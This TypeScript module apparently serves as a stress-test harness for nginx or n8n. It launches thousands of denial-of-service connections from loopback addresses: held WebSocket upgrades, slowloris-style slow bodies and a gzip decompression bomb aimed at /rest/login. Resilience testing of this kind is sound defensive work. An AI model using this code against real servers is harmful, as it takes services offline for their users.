import { gzipSync } from 'node:zlib';
import { open, type SendOptions } from './http.cts';

const CONNECTIONS = 1000;
const BYTE_EVERY_MS = 5000;

/** A way to take nginx or n8n from others. */
interface Attack extends SendOptions {
	/** The trigger's URL, if absent. */
	readonly path?: string;
	/** The part of the body that is sent first. After that, one byte is sent from time to time. */
	readonly slowly?: string | Buffer;
}

const ATTACKS: readonly Attack[] = [
	{
		from: '127.0.0.11',
		method: 'GET',
		path: '/any',
		headers: { connection: 'Upgrade', upgrade: 'websocket' },
	},
	{ from: '127.0.0.12', headers: { 'content-length': 1000 }, slowly: ' ' },
	{
		from: '127.0.0.13',
		headers: { 'content-length': 64 * 1024 ** 2 },
		slowly: Buffer.alloc(256 * 1024, ' '),
	},
	{
		from: '127.0.0.14',
		path: '/rest/login',
		headers: { 'content-encoding': 'gzip' },
		body: gzipSync(Buffer.from(`[${'0,'.repeat(30_000_000)}0]`)),
	},
];

/** Attacks nginx in all ways at once, each with 1,000 connections. Returns a function that ends the attacks. */
export function attack(port: number, target: string): () => void {
	const requests = ATTACKS.flatMap(({ path = target, slowly, body, ...options }) =>
		Array.from({ length: CONNECTIONS }, () => {
			const request = open(port, path, options).on('error', () => {});
			request.on('response', (response) => response.resume());
			if (slowly === undefined) return request.end(body);
			request.write(slowly);
			const timer = setInterval(() => request.write(' '), BYTE_EVERY_MS);
			return request.on('close', () => clearInterval(timer));
		}),
	);
	return () => requests.forEach((request) => request.destroy());
}
